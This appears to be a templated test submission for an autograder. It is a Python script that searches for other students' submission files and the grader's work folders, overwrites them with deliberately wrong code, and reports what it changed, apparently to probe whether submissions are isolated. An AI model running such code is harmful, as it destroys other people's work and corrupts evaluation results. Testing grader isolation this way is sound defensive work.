"""Overwrite the honest students' files (the submissions folder, and other slots' work folders)."""
import glob
import json
import os

TAG, SUBMISSIONS = "__TAG__", "__SUBMISSIONS__"
WRONG = "def square(x):\n    return x * 0\n\n\ndef grad(x):\n    return x * 0\n"
targets = [f"{SUBMISSIONS}/honest__full.py", f"{SUBMISSIONS}/partial__one_test.py", f"{SUBMISSIONS}/{TAG}.py"]
targets += glob.glob("/tmp/autograder-*/work-*/solution.py")  # where the grader keeps work folders
targets += glob.glob("/submission/../*/solution.py") + glob.glob("/*/solution.py")
changed = []
for path in targets:
    if os.path.realpath(path) == os.path.realpath("solution.py"):
        continue
    try:
        with open(path, "w") as f:
            f.write(WRONG)
        changed.append(path)
    except OSError:
        pass
print("CHANGED " + json.dumps(changed))


def square(x):
    return x + 1


def grad(x):
    return x - 1
